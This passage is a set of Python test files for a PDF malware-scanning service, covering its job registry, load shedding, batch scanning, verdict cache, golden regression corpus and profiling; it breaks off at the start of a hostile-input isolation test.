        payload = done.to_dict()
        assert payload["job"] == job.id
        assert payload["state"] == JOB_DONE
        assert payload["result"] == {"verdict": {"malicious": False}}

    def test_shed_is_terminal(self):
        registry = JobRegistry()
        job = registry.create("b.pdf")
        registry.finish(job.id, JOB_SHED, 429, {"reason": "queue-full"})
        assert registry.get(job.id).terminal
        # A late mark_running must not resurrect a terminal job.
        registry.mark_running(job.id)
        assert registry.get(job.id).state == JOB_SHED

    def test_finish_requires_terminal_state(self):
        registry = JobRegistry()
        job = registry.create("c.pdf")
        with pytest.raises(ValueError):
            registry.finish(job.id, JOB_RUNNING, 200, {})

    def test_unknown_ids(self):
        registry = JobRegistry()
        assert registry.get("nope") is None
        registry.finish("nope", JOB_DONE, 200, {})  # silently ignored
        registry.mark_running("nope")

    def test_ids_are_unique(self):
        registry = JobRegistry()
        ids = {registry.create("x.pdf").id for _ in range(64)}
        assert len(ids) == 64


class TestRetention:
    def test_oldest_terminal_jobs_evicted(self):
        registry = JobRegistry(max_jobs=3)
        jobs = [registry.create(f"{i}.pdf") for i in range(3)]
        for job in jobs:
            registry.finish(job.id, JOB_DONE, 200, {})
        extra = registry.create("late.pdf")
        assert len(registry) == 3
        assert registry.get(jobs[0].id) is None  # oldest terminal evicted
        assert registry.get(extra.id) is not None
        assert registry.evicted == 1

    def test_live_jobs_never_evicted(self):
        registry = JobRegistry(max_jobs=2)
        live = [registry.create(f"{i}.pdf") for i in range(4)]
        # All four still queued: nothing is terminal, nothing evictable.
        assert len(registry) == 4
        for job in live:
            assert registry.get(job.id) is not None
        registry.finish(live[0].id, JOB_DONE, 200, {})
        registry.create("new.pdf")
        assert registry.get(live[0].id) is None  # now evictable

    def test_snapshot(self):
        registry = JobRegistry()
        job = registry.create("a.pdf")
        registry.create("b.pdf")
        registry.finish(job.id, JOB_DONE, 200, {})
        snap = registry.snapshot()
        assert snap["jobs"] == 2
        assert snap["created"] == 2
        assert snap["pending"] == 1
        assert snap["by_state"] == {JOB_DONE: 1, JOB_QUEUED: 1}

    def test_max_jobs_validation(self):
        with pytest.raises(ValueError):
            JobRegistry(max_jobs=0)


class TestPendingBacklog:
    def test_create_refuses_over_max_pending(self):
        registry = JobRegistry()
        first = registry.create("a.pdf", max_pending=2)
        second = registry.create("b.pdf", max_pending=2)
        assert first is not None and second is not None
        assert registry.pending_count() == 2
        assert registry.create("c.pdf", max_pending=2) is None
        # Finishing one job frees a backlog slot.
        registry.finish(first.id, JOB_DONE, 200, {})
        assert registry.pending_count() == 1
        assert registry.create("c.pdf", max_pending=2) is not None

    def test_pending_counts_running_jobs_too(self):
        registry = JobRegistry()
        job = registry.create("a.pdf")
        registry.mark_running(job.id)
        assert registry.pending_count() == 1
        registry.finish(job.id, JOB_SHED, 429, {})
        assert registry.pending_count() == 0

    def test_double_finish_does_not_corrupt_pending(self):
        registry = JobRegistry()
        job = registry.create("a.pdf")
        registry.finish(job.id, JOB_DONE, 200, {})
        registry.finish(job.id, JOB_DONE, 200, {})
        assert registry.pending_count() == 0
