"""Concurrency stress + soak harness for the scan service (satellite 2).

Marked ``slow``: the fast lane deselects these with ``-m 'not slow'``.
The soak test watches ``/proc/self`` (fd count, thread count, RSS)
instead of psutil, which is not available in this environment.
"""

import concurrent.futures as cf
import os
import time
import urllib.parse

import pytest

from repro.serve import AdmissionConfig, ScanService, start_server

from tests.serve.conftest import (
    assert_verdict_matches,
    http_get,
    http_post,
    service_settings,
)

pytestmark = [pytest.mark.serve, pytest.mark.slow]

PROC = "/proc/self"
HAS_PROC = os.path.isdir(PROC)


def fd_count():
    return len(os.listdir(f"{PROC}/fd"))


def thread_count():
    return len(os.listdir(f"{PROC}/task"))


def rss_kb():
    with open(f"{PROC}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


class TestConcurrentMixedLoad:
    def test_no_deadlock_every_request_terminal(self, corpus_docs, expected_verdicts):
        """N client threads hammer a service with a mixed corpus: every
        request must reach a terminal status, verdicts must stay correct,
        and the queue must never exceed its configured bound."""
        config = AdmissionConfig(
            max_queue_depth=8, max_in_flight=2, deadline_seconds=60.0
        )
        service = ScanService(
            settings=service_settings(), jobs=2, admission=config
        ).start()
        names = ["benign.pdf", "plain.pdf", "malicious.pdf", "garbage.pdf"]
        requests = [names[i % len(names)] for i in range(40)]
        try:
            with cf.ThreadPoolExecutor(max_workers=8) as pool:
                futures = [
                    pool.submit(service.handle_scan, corpus_docs[name], name)
                    for name in requests
                ]
                results = [f.result(timeout=120.0) for f in futures]
        finally:
            assert service.drain(timeout=30.0) is True

        statuses = [r.status for r in results]
        assert all(s in (200, 429, 503) for s in statuses), statuses
        served = [r for r, name in zip(results, requests) if r.status == 200]
        assert served, "overload shed every single request"
        for result, name in zip(results, requests):
            if result.status == 200:
                assert_verdict_matches(
                    result.payload, expected_verdicts[name], name
                )
        snap = service.admission.snapshot()
        assert snap["peak_queue_depth"] <= config.max_queue_depth
        assert snap["peak_in_flight"] <= config.max_in_flight
        assert snap["queue_depth"] == 0
        assert snap["in_flight"] == 0
        terminal = snap["completed"] + sum(snap["shed"].values())
        assert terminal == snap["admitted"] + sum(snap["shed"].values())

    def test_overloaded_http_server_sheds_with_429_and_retry_after(
        self, corpus_docs
    ):
        """2x overload against a deliberately tiny service: some requests
        are served, the excess is shed with 429 + Retry-After, nothing
        hangs."""
        service = ScanService(
            settings=service_settings(),
            jobs=1,
            admission=AdmissionConfig(
                max_queue_depth=1, max_in_flight=1, deadline_seconds=30.0
            ),
        )
        handle = start_server(service)
        url = f"{handle.url}/scan?" + urllib.parse.urlencode(
            {"name": "malicious.pdf"}
        )
        # Custom limits bypass the verdict cache, so every request scans.
        burst_url = url + "&limits=deadline=20"
        try:
            with cf.ThreadPoolExecutor(max_workers=12) as pool:
                futures = [
                    pool.submit(
                        http_post, burst_url, corpus_docs["malicious.pdf"]
                    )
                    for _ in range(12)
                ]
                results = [f.result(timeout=120.0) for f in futures]
        finally:
            handle.stop()
        statuses = [status for status, _, _ in results]
        assert statuses.count(200) >= 1
        shed = [(s, p, h) for s, p, h in results if s in (429, 503)]
        assert shed, f"12 concurrent requests on a depth-1 queue never shed: {statuses}"
        for status, payload, headers in shed:
            assert "Retry-After" in headers
            assert payload["reason"] in ("queue-full", "draining", "queue-deadline")
        assert any(status == 429 for status, _, _ in results), statuses


@pytest.mark.skipif(not HAS_PROC, reason="requires /proc/self")
class TestSoak:
    def test_sustained_load_leaks_nothing(self, corpus_docs):
        """Several waves of requests against one long-lived server: fd
        count, thread count and RSS must plateau (no per-request leak)."""
        service = ScanService(
            settings=service_settings(),
            jobs=2,
            admission=AdmissionConfig(
                max_queue_depth=16, max_in_flight=2, deadline_seconds=60.0
            ),
        )
        handle = start_server(service)
        url = f"{handle.url}/scan?name=plain.pdf"
        health_url = f"{handle.url}/healthz"
        try:
            # Warm-up wave lets lazy pools/threads come up before baseline.
            with cf.ThreadPoolExecutor(max_workers=4) as pool:
                list(pool.map(
                    lambda _: http_post(url, corpus_docs["plain.pdf"]),
                    range(8),
                ))
            baseline_fds = fd_count()
            baseline_threads = thread_count()
            baseline_rss = rss_kb()

            total = 0
            for _ in range(5):
                with cf.ThreadPoolExecutor(max_workers=4) as pool:
                    statuses = list(pool.map(
                        lambda _: http_post(url, corpus_docs["plain.pdf"])[0],
                        range(12),
                    ))
                total += len(statuses)
                assert all(s in (200, 429, 503) for s in statuses)
                assert http_get(health_url)[0] == 200

            # Transient sockets may still be in teardown; small slack only.
            assert fd_count() <= baseline_fds + 16
            assert thread_count() <= baseline_threads + 8
            assert rss_kb() <= baseline_rss + 64 * 1024  # +64 MB hard cap
            assert total == 60
        finally:
            handle.stop()
        snap = service.admission.snapshot()
        assert snap["in_flight"] == 0
        assert snap["queue_depth"] == 0
