"""Service-mode submission API of ``BatchScanner`` (ISSUE 5, satellite 4).

The headline regression: the per-item ``timeout`` used to be folded
into the worker limits once, at construction — a per-request limits
override then silently escaped the scanner's deadline cap.
``effective_limits`` now re-derives the cap at submission time.
"""

import time

import pytest

from repro.batch import BatchScanner, ScanOutcome
from repro.core.pipeline import PipelineSettings
from repro.limits import ScanLimits

pytestmark = pytest.mark.batch

SETTINGS = PipelineSettings(seed=7)


def benign_doc():
    from repro.pdf.builder import DocumentBuilder

    builder = DocumentBuilder()
    builder.add_page("benign js")
    builder.add_javascript("var x = 2 + 2;")
    return builder.to_bytes()


class TestEffectiveLimits:
    def test_request_override_cannot_exceed_scanner_timeout(self):
        """The regression: a generous per-request deadline must still be
        capped by the scanner's own per-item timeout."""
        scanner = BatchScanner(jobs=1, settings=SETTINGS, timeout=2.0)
        limits = scanner.effective_limits(ScanLimits(deadline_seconds=500.0))
        assert limits.deadline_seconds == 2.0

    def test_tighter_request_deadline_is_kept(self):
        scanner = BatchScanner(jobs=1, settings=SETTINGS, timeout=10.0)
        limits = scanner.effective_limits(ScanLimits(deadline_seconds=0.5))
        assert limits.deadline_seconds == 0.5

    def test_default_limits_inherit_scanner_timeout(self):
        scanner = BatchScanner(jobs=1, settings=SETTINGS, timeout=3.0)
        assert scanner.effective_limits().deadline_seconds == 3.0

    def test_no_timeout_leaves_request_limits_untouched(self):
        scanner = BatchScanner(jobs=1, settings=SETTINGS)
        limits = ScanLimits(deadline_seconds=7.0, max_stream_bytes=1024)
        assert scanner.effective_limits(limits) == limits

    def test_non_deadline_fields_survive_the_cap(self):
        scanner = BatchScanner(jobs=1, settings=SETTINGS, timeout=1.0)
        limits = scanner.effective_limits(
            ScanLimits(deadline_seconds=99.0, max_stream_bytes=4096)
        )
        assert limits.deadline_seconds == 1.0
        assert limits.max_stream_bytes == 4096


class TestSubmitOne:
    def test_submit_and_result(self):
        scanner = BatchScanner(jobs=1, settings=SETTINGS, cache=False).start()
        try:
            handle = scanner.submit_one("a.pdf", benign_doc())
            outcome = handle.result(timeout=60.0)
            assert isinstance(outcome, ScanOutcome)
            assert outcome.cached is False
            assert handle.name == "a.pdf"
            assert outcome.summary.errored is False
            assert outcome.report is not None
            assert outcome.seconds >= 0.0
            assert handle.done()
            assert len(handle.digest) == 64
        finally:
            scanner.shutdown()

    def test_cache_hit_resolves_without_a_scan(self):
        scanner = BatchScanner(jobs=1, settings=SETTINGS).start()
        try:
            data = benign_doc()
            first = scanner.submit_one("a.pdf", data).result(timeout=60.0)
            hit = scanner.submit_one("a.pdf", data)
            assert hit.cached
            assert hit.done()
            outcome = hit.result()
            assert outcome.cached is True
            assert outcome.report is None  # summaries only from the cache
            assert outcome.summary.malicious == first.summary.malicious
            assert outcome.summary.malscore == first.summary.malscore
        finally:
            scanner.shutdown()

    def test_custom_limits_bypass_the_cache(self):
        scanner = BatchScanner(jobs=1, settings=SETTINGS).start()
        try:
            data = benign_doc()
            scanner.submit_one("a.pdf", data).result(timeout=60.0)
            override = scanner.submit_one(
                "a.pdf", data, limits=ScanLimits(deadline_seconds=25.0)
            )
            assert not override.cached
            assert override.result(timeout=60.0).cached is False
        finally:
            scanner.shutdown()

    def test_expired_deadline_yields_structured_limit_report(self):
        scanner = BatchScanner(jobs=1, settings=SETTINGS, cache=False).start()
        try:
            handle = scanner.submit_one(
                "late.pdf", benign_doc(),
                deadline_at=time.monotonic() - 1.0,
            )
            outcome = handle.result(timeout=60.0)
            assert outcome.summary.errored is True
            assert outcome.summary.limit_kind == "deadline"
        finally:
            scanner.shutdown()

    def test_deadline_aborted_verdict_is_never_cached(self):
        """The cache-poisoning regression: a request whose admission
        deadline expired while queued produces a ``deadline`` limit
        report — caching that under the default-settings fingerprint
        would serve the bogus verdict to every later request."""
        scanner = BatchScanner(jobs=1, settings=SETTINGS).start()
        try:
            data = benign_doc()
            late = scanner.submit_one(
                "late.pdf", data, deadline_at=time.monotonic() - 1.0
            )
            outcome = late.result(timeout=60.0)
            assert outcome.summary.limit_kind == "deadline"
            time.sleep(0.2)  # let the done-callback (if any) run
            assert scanner.cache.get(late.digest) is None
            fresh = scanner.submit_one("late.pdf", data)
            assert not fresh.cached
            assert fresh.result(timeout=60.0).summary.errored is False
        finally:
            scanner.shutdown()

    def test_clean_scan_under_tightened_deadline_is_cached(self):
        """Tightening alone is harmless: a scan that finishes without a
        budget abort yields the same verdict the full budget would, so
        it may (and should) populate the cache."""
        scanner = BatchScanner(jobs=1, settings=SETTINGS).start()
        try:
            handle = scanner.submit_one(
                "quick.pdf", benign_doc(),
                deadline_at=time.monotonic() + 5.0,  # < default 30s budget
            )
            outcome = handle.result(timeout=60.0)
            assert outcome.summary.errored is False
            deadline = time.monotonic() + 5.0
            while scanner.cache.get(handle.digest) is None:
                assert time.monotonic() < deadline, "verdict never cached"
                time.sleep(0.01)
        finally:
            scanner.shutdown()

    def test_submit_auto_starts_the_pool(self):
        scanner = BatchScanner(jobs=1, settings=SETTINGS, cache=False)
        assert not scanner.started
        try:
            handle = scanner.submit_one("a.pdf", benign_doc())
            assert scanner.started
            assert handle.result(timeout=60.0).summary.errored is False
        finally:
            scanner.shutdown()
        assert not scanner.started

    def test_start_is_idempotent_and_shutdown_restartable(self):
        scanner = BatchScanner(jobs=1, settings=SETTINGS, cache=False)
        scanner.start()
        scanner.start()
        assert scanner.started
        scanner.shutdown()
        scanner.shutdown()  # second shutdown is a no-op
        assert not scanner.started
        scanner.start()
        try:
            outcome = scanner.scan_one("b.pdf", benign_doc())
            assert outcome.summary.errored is False
        finally:
            scanner.shutdown()

    @pytest.mark.slow
    def test_process_backend_submission(self):
        scanner = BatchScanner(
            jobs=2, settings=SETTINGS, backend="process", cache=False
        ).start()
        try:
            outcome = scanner.scan_one("p.pdf", benign_doc())
            assert outcome.report is not None
            assert outcome.summary.errored is False
        finally:
            scanner.shutdown()
