"""Shared definition of the golden regression corpus.

The golden corpus is every document both generators emit at a fixed,
structurally-complete scale; its verdicts are pinned in
``tests/data/golden_verdicts.json``.  The test and the regeneration
command must agree on corpus and scan settings, so both import from
here.

Regenerate (only after an *intentional* behaviour change)::

    PYTHONPATH=src python -m tests.batch.golden

then review the diff of ``tests/data/golden_verdicts.json`` and commit
it together with the change that moved the verdicts.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Dict

from repro.batch import BatchScanner
from repro.core.pipeline import PipelineSettings
from repro.corpus import CorpusConfig, build_dataset, dataset_items

GOLDEN_PATH = Path(__file__).resolve().parent.parent / "data" / "golden_verdicts.json"

#: Small but complete: every benign/malicious generator kind appears.
GOLDEN_CONFIG = CorpusConfig(
    n_benign=24, n_benign_with_js=8, n_malicious=32,
    benign_seed=1963, malicious_seed=2014,
)

#: The same seed the batch scanner's workers fork from.
GOLDEN_SETTINGS = PipelineSettings(seed=1301)

REGEN_COMMAND = "PYTHONPATH=src python -m tests.batch.golden"


def scan_golden_corpus(jobs: int = 2) -> Dict[str, Dict[str, object]]:
    """Scan the golden corpus and return ``name -> verdict record``."""
    items = dataset_items(build_dataset(GOLDEN_CONFIG))
    report = BatchScanner(jobs=jobs, settings=GOLDEN_SETTINGS).scan_items(items)
    verdicts: Dict[str, Dict[str, object]] = {}
    for item in report.items:
        assert item.verdict is not None, f"{item.name}: {item.status}"
        verdicts[item.name] = {
            "malicious": item.verdict.malicious,
            "malscore": item.verdict.malscore,
            "features": list(item.verdict.features),
        }
    return verdicts


def load_golden() -> Dict[str, Dict[str, object]]:
    return json.loads(GOLDEN_PATH.read_text(encoding="utf-8"))


def main() -> None:
    verdicts = scan_golden_corpus()
    GOLDEN_PATH.parent.mkdir(parents=True, exist_ok=True)
    GOLDEN_PATH.write_text(
        json.dumps(verdicts, indent=1, sort_keys=True) + "\n", encoding="utf-8"
    )
    malicious = sum(1 for v in verdicts.values() if v["malicious"])
    print(
        f"wrote {len(verdicts)} golden verdict(s) "
        f"({malicious} malicious) to {GOLDEN_PATH}"
    )


if __name__ == "__main__":
    main()
