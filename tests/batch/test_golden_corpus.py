"""Golden regression corpus: verdicts must not drift.

Every document both corpus generators emit (at the pinned golden scale)
is scanned through :class:`repro.batch.BatchScanner` and compared
against the checked-in ``tests/data/golden_verdicts.json``.  A mismatch
means detection behaviour changed: either fix the regression, or — if
the change is intentional — regenerate the file and commit it alongside
the change (the failure message prints the command).
"""

import pytest

from tests.batch.golden import (
    GOLDEN_PATH,
    REGEN_COMMAND,
    load_golden,
    scan_golden_corpus,
)

pytestmark = [pytest.mark.batch, pytest.mark.slow]


def _describe(record):
    flag = "MALICIOUS" if record["malicious"] else "benign"
    return f"{flag} malscore={record['malscore']:g} features={record['features']}"


def test_golden_corpus_verdicts_stable():
    assert GOLDEN_PATH.exists(), (
        f"golden file missing: {GOLDEN_PATH}\nregenerate with: {REGEN_COMMAND}"
    )
    expected = load_golden()
    actual = scan_golden_corpus(jobs=2)

    problems = []
    for name in sorted(set(expected) | set(actual)):
        if name not in actual:
            problems.append(f"  {name}: missing from scan (was {_describe(expected[name])})")
        elif name not in expected:
            problems.append(f"  {name}: new document, not in golden file")
        elif expected[name] != actual[name]:
            problems.append(
                f"  {name}:\n"
                f"    golden : {_describe(expected[name])}\n"
                f"    actual : {_describe(actual[name])}"
            )
    if problems:
        pytest.fail(
            "verdicts drifted from tests/data/golden_verdicts.json "
            f"({len(problems)} document(s)):\n"
            + "\n".join(problems)
            + "\n\nIf this change is intentional, regenerate the golden file "
            f"with:\n  {REGEN_COMMAND}\nand commit it with your change.",
            pytrace=False,
        )


def test_golden_file_has_both_labels():
    """The pinned corpus must keep exercising both verdict classes."""
    expected = load_golden()
    labels = {record["malicious"] for record in expected.values()}
    assert labels == {True, False}
    assert len(expected) >= 50
