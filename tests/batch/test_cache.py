"""Verdict cache: LRU behaviour, persistence, corruption tolerance."""

import json

import pytest

from repro.batch import CACHE_FORMAT_VERSION, VerdictCache, VerdictSummary, content_digest

pytestmark = pytest.mark.batch


def summary(malicious=False, malscore=0.0, **kwargs):
    return VerdictSummary(malicious=malicious, malscore=malscore, **kwargs)


class TestLRU:
    def test_get_put_roundtrip(self):
        cache = VerdictCache()
        cache.put("d1", summary(malicious=True, malscore=12.0))
        got = cache.get("d1")
        assert got is not None and got.malicious and got.malscore == 12.0

    def test_miss_and_hit_counters(self):
        cache = VerdictCache()
        assert cache.get("nope") is None
        cache.put("d1", summary())
        cache.get("d1")
        assert cache.hits == 1 and cache.misses == 1 and cache.stores == 1

    def test_eviction_drops_least_recently_used(self):
        cache = VerdictCache(max_entries=2)
        cache.put("a", summary())
        cache.put("b", summary())
        cache.get("a")  # refresh a
        cache.put("c", summary())  # evicts b
        assert cache.peek("a") is not None
        assert cache.peek("b") is None
        assert cache.peek("c") is not None

    def test_errored_verdicts_never_cached(self):
        cache = VerdictCache()
        cache.put("bad", summary(errored=True, error="parse failed"))
        assert cache.peek("bad") is None and len(cache) == 0

    def test_max_entries_validated(self):
        with pytest.raises(ValueError):
            VerdictCache(max_entries=0)


class TestPersistence:
    def test_save_load_roundtrip(self, tmp_path):
        path = tmp_path / "cache.json"
        cache = VerdictCache(path=path, fingerprint="fp")
        cache.put("d1", summary(malicious=True, malscore=28.0,
                                features=("F8", "F10")))
        cache.save()

        fresh = VerdictCache(path=path, fingerprint="fp")
        got = fresh.get("d1")
        assert got is not None
        assert got.malicious and got.malscore == 28.0
        assert got.features == ("F8", "F10")

    def test_fingerprint_mismatch_discards(self, tmp_path):
        path = tmp_path / "cache.json"
        cache = VerdictCache(path=path, fingerprint="settings-A")
        cache.put("d1", summary())
        cache.save()
        other = VerdictCache(path=path, fingerprint="settings-B")
        assert len(other) == 0

    def test_version_mismatch_discards(self, tmp_path):
        path = tmp_path / "cache.json"
        payload = {
            "version": CACHE_FORMAT_VERSION + 1,
            "fingerprint": "",
            "entries": {"d": summary().to_dict()},
        }
        path.write_text(json.dumps(payload))
        assert len(VerdictCache(path=path)) == 0

    def test_corrupt_file_treated_as_empty(self, tmp_path):
        path = tmp_path / "cache.json"
        path.write_text("{not json")
        cache = VerdictCache(path=path)
        assert len(cache) == 0
        cache.put("d", summary())
        cache.save()  # and saving over the corrupt file works
        assert len(VerdictCache(path=path)) == 1

    def test_missing_file_is_fine(self, tmp_path):
        assert len(VerdictCache(path=tmp_path / "absent.json")) == 0

    def test_bad_entry_skipped_rest_loaded(self, tmp_path):
        path = tmp_path / "cache.json"
        payload = {
            "version": CACHE_FORMAT_VERSION,
            "fingerprint": "",
            "entries": {
                "good": summary(malscore=3.0).to_dict(),
                "bad": {"nonsense": True},
            },
        }
        path.write_text(json.dumps(payload))
        cache = VerdictCache(path=path)
        assert cache.peek("good") is not None
        assert cache.peek("bad") is None


def test_content_digest_is_sha256_hex():
    digest = content_digest(b"hello")
    assert len(digest) == 64
    assert digest == content_digest(b"hello")
    assert digest != content_digest(b"hello!")
