"""BatchScanner: parallel equivalence, caching, dedup, report shape."""

import json

import pytest

from repro.batch import (
    STATUS_ERRORED,
    STATUS_OK,
    BatchScanner,
    VerdictCache,
    percentile,
)
from repro.core.pipeline import PipelineSettings, ProtectionPipeline
from repro.corpus import CorpusConfig, build_dataset, dataset_items

pytestmark = pytest.mark.batch

SETTINGS = PipelineSettings(seed=7)


@pytest.fixture(scope="module")
def corpus_items():
    dataset = build_dataset(
        CorpusConfig(n_benign=8, n_benign_with_js=3, n_malicious=8)
    )
    return dataset_items(dataset)


@pytest.fixture(scope="module")
def sequential_verdicts(corpus_items):
    pipeline = ProtectionPipeline(seed=7)
    return sorted(
        (name, report.verdict.malicious, report.verdict.malscore)
        for name, report in (
            (name, pipeline.scan(data, name)) for name, data in corpus_items
        )
    )


class TestParallelEquivalence:
    def test_thread_backend_matches_sequential(self, corpus_items, sequential_verdicts):
        report = BatchScanner(jobs=4, settings=SETTINGS).scan_items(corpus_items)
        assert report.verdict_multiset() == sequential_verdicts
        assert all(item.status == STATUS_OK for item in report.items)

    @pytest.mark.slow
    def test_process_backend_matches_sequential(self, corpus_items, sequential_verdicts):
        report = BatchScanner(
            jobs=2, backend="process", settings=SETTINGS
        ).scan_items(corpus_items)
        assert report.verdict_multiset() == sequential_verdicts

    def test_single_job_matches_sequential(self, corpus_items, sequential_verdicts):
        report = BatchScanner(jobs=1, settings=SETTINGS).scan_items(corpus_items)
        assert report.verdict_multiset() == sequential_verdicts


class TestCachingAndDedup:
    def test_duplicates_scanned_once(self, corpus_items):
        doubled = corpus_items + corpus_items
        report = BatchScanner(jobs=4, settings=SETTINGS).scan_items(doubled)
        assert len(report.items) == len(doubled)
        assert report.scans_executed == len(corpus_items)
        assert report.cache_hits == len(corpus_items)
        assert report.cache_hit_rate == 0.5
        # Duplicates carry the same verdict as their representative.
        by_name = {}
        for item in report.items:
            by_name.setdefault(item.sha256, set()).add(
                (item.verdict.malicious, item.verdict.malscore)
            )
        assert all(len(verdicts) == 1 for verdicts in by_name.values())

    def test_cross_run_disk_cache(self, corpus_items, tmp_path):
        path = tmp_path / "verdicts.json"
        first = BatchScanner(
            jobs=2, settings=SETTINGS,
            cache=VerdictCache(path=path, fingerprint="t"),
        ).scan_items(corpus_items)
        assert first.cache_hits == 0
        assert path.exists()
        second = BatchScanner(
            jobs=2, settings=SETTINGS,
            cache=VerdictCache(path=path, fingerprint="t"),
        ).scan_items(corpus_items)
        assert second.scans_executed == 0
        assert second.cache_hits == len(corpus_items)
        assert second.verdict_multiset() == first.verdict_multiset()

    def test_cache_disabled_scans_everything(self, corpus_items):
        doubled = corpus_items[:3] + corpus_items[:3]
        report = BatchScanner(
            jobs=2, settings=SETTINGS, cache=False
        ).scan_items(doubled)
        assert report.scans_executed == len(doubled)
        assert report.cache_hits == 0


class TestInputs:
    def test_scan_dir_and_paths(self, corpus_items, tmp_path):
        for name, data in corpus_items[:4]:
            (tmp_path / name).write_bytes(data)
        report = BatchScanner(jobs=2, settings=SETTINGS).scan_dir(tmp_path)
        assert len(report.items) == 4
        assert all(item.status == STATUS_OK for item in report.items)

    def test_unreadable_path_becomes_errored_item(self, tmp_path, corpus_items):
        name, data = corpus_items[0]
        good = tmp_path / "good.pdf"
        good.write_bytes(data)
        report = BatchScanner(jobs=1, settings=SETTINGS).scan_paths(
            [good, tmp_path / "missing.pdf"]
        )
        statuses = {item.name: item.status for item in report.items}
        assert statuses[str(good)] == STATUS_OK
        assert statuses[str(tmp_path / "missing.pdf")] == STATUS_ERRORED

    def test_empty_input(self):
        report = BatchScanner(jobs=2, settings=SETTINGS).scan_items([])
        assert report.items == [] and report.scans_executed == 0

    def test_malformed_document_is_errored_verdict_not_crash(self):
        report = BatchScanner(jobs=1, settings=SETTINGS).scan_items(
            [("junk.pdf", b"this is not a pdf")]
        )
        (item,) = report.items
        # pipeline.scan turns parse failures into errored OpenReports,
        # so the *item* completes with an errored verdict.
        assert item.status == STATUS_OK
        assert item.verdict.errored
        assert report.counts["errored"] == 1
        assert report.errors and "junk.pdf" in report.errors[0]["name"]


class TestValidation:
    def test_bad_jobs(self):
        with pytest.raises(ValueError):
            BatchScanner(jobs=0)

    def test_bad_backend(self):
        with pytest.raises(ValueError):
            BatchScanner(backend="fiber")

    def test_factory_requires_thread_backend(self):
        with pytest.raises(ValueError):
            BatchScanner(backend="process", pipeline_factory=lambda: None)

    def test_bad_timeout(self):
        with pytest.raises(ValueError):
            BatchScanner(timeout=0)


class TestReport:
    def test_json_serialisable(self, corpus_items):
        report = BatchScanner(jobs=2, settings=SETTINGS).scan_items(
            corpus_items[:4]
        )
        payload = json.loads(json.dumps(report.to_dict()))
        assert payload["total"] == 4
        assert set(payload["counts"]) == {"benign", "malicious", "errored", "timeout"}
        assert payload["cache"]["hits"] == 0
        assert payload["latency"]["p50_seconds"] > 0
        assert len(payload["items"]) == 4
        for item in payload["items"]:
            assert set(item) == {
                "name", "sha256", "status", "verdict", "cached",
                "attempts", "seconds", "error",
            }

    def test_summary_mentions_counts(self, corpus_items):
        report = BatchScanner(jobs=2, settings=SETTINGS).scan_items(
            corpus_items[:4]
        )
        text = report.summary()
        assert "scanned 4 document(s)" in text
        assert "hit rate" in text


class TestPercentile:
    def test_empty(self):
        assert percentile([], 50) == 0.0

    def test_single(self):
        assert percentile([3.0], 95) == 3.0

    def test_interpolation(self):
        assert percentile([1.0, 2.0, 3.0, 4.0], 50) == 2.5
        assert percentile([1.0, 2.0, 3.0, 4.0], 100) == 4.0
        assert percentile([1.0, 2.0, 3.0, 4.0], 0) == 1.0
