"""Batch-layer profiling: phase aggregation + worker trace parentage."""

import json

import pytest

from repro.batch import BatchScanner
from repro.batch.report import VerdictSummary
from repro.core.pipeline import PipelineSettings
from repro.obs import MemorySink, Observability
from repro.pdf.builder import DocumentBuilder

SEED = 99


def _docs(count=3):
    items = []
    for index in range(count):
        builder = DocumentBuilder()
        builder.add_page(f"doc {index}")
        builder.add_javascript(f"var v{index} = {index} + 1; v{index} * 3;")
        items.append((f"doc{index}.pdf", builder.to_bytes()))
    return items


class TestBatchPhaseAggregation:
    def test_profiled_batch_carries_phases(self):
        scanner = BatchScanner(
            jobs=2,
            backend="thread",
            settings=PipelineSettings(seed=SEED, profile=True),
            cache=False,
        )
        report = scanner.scan_items(_docs())

        for item in report.items:
            assert item.status == "ok"
            assert item.verdict.phases is not None
            phases = item.verdict.phase_seconds()
            assert phases["js-exec"] > 0.0
        totals = report.phase_totals()
        assert totals
        assert totals["js-exec"] == pytest.approx(
            sum(item.verdict.phase_seconds()["js-exec"] for item in report.items)
        )
        assert "phases" in report.summary()
        payload = json.loads(json.dumps(report.to_dict()))
        assert payload["phase_totals"]["js-exec"] > 0.0
        assert payload["items"][0]["verdict"]["phases"]["parse"] >= 0.0

    def test_unprofiled_batch_has_no_phases(self):
        scanner = BatchScanner(
            jobs=2,
            backend="thread",
            settings=PipelineSettings(seed=SEED),
            cache=False,
        )
        report = scanner.scan_items(_docs())
        assert all(item.verdict.phases is None for item in report.items)
        assert report.phase_totals() == {}
        assert "phases" not in report.summary()

    def test_summary_with_phases_stays_hashable_and_round_trips(self):
        summary = VerdictSummary(
            malicious=False,
            malscore=0.0,
            phases=(("js-exec", 0.25), ("parse", 0.5)),
        )
        hash(summary)  # frozen dataclass must stay usable as a dict key
        restored = VerdictSummary.from_dict(summary.to_dict())
        assert restored.phase_seconds() == {"js-exec": 0.25, "parse": 0.5}


class TestWorkerTraceParentage:
    def test_thread_worker_spans_connect_to_batch_run(self):
        """pipeline.scan spans emitted on worker threads must chain up
        to the submitting batch.run span (trace context propagation)."""
        sink = MemorySink()
        scanner = BatchScanner(
            jobs=2,
            backend="thread",
            settings=PipelineSettings(seed=SEED),
            cache=False,
            obs=Observability(sink),
        )
        scanner.scan_items(_docs())

        by_id = {span["span_id"]: span for span in sink.spans}
        (run_span,) = sink.spans_named("batch.run")
        scan_spans = sink.spans_named("pipeline.scan")
        assert scan_spans, "no worker scan spans captured"

        def reaches_run(span):
            seen = set()
            while span is not None and span["span_id"] not in seen:
                seen.add(span["span_id"])
                if span["span_id"] == run_span["span_id"]:
                    return True
                parent = span.get("parent_id")
                span = by_id.get(parent) if parent is not None else None
            return False

        for span in scan_spans:
            assert reaches_run(span), (
                f"span {span['name']}#{span['span_id']} does not chain to "
                f"batch.run"
            )
