"""Batch-level hostile-input isolation: one bombed document must not
poison sibling results, the verdict cache, or the worker pool."""

from __future__ import annotations

from repro.batch import BatchScanner
from repro.batch.scanner import _settings_fingerprint
from repro.core.pipeline import PipelineSettings
from repro.limits import ScanLimits
from tests.data import malformed

TIGHT = ScanLimits(
    max_stream_bytes=256 * 1024,
    max_document_bytes=1024 * 1024,
    max_filter_depth=8,
    deadline_seconds=10.0,
)


def _settings() -> PipelineSettings:
    return PipelineSettings(seed=99, limits=TIGHT)


class TestBombIsolation:
    def test_bomb_does_not_poison_siblings(self, simple_doc_bytes, js_doc_bytes):
        items = [
            ("benign-1.pdf", simple_doc_bytes),
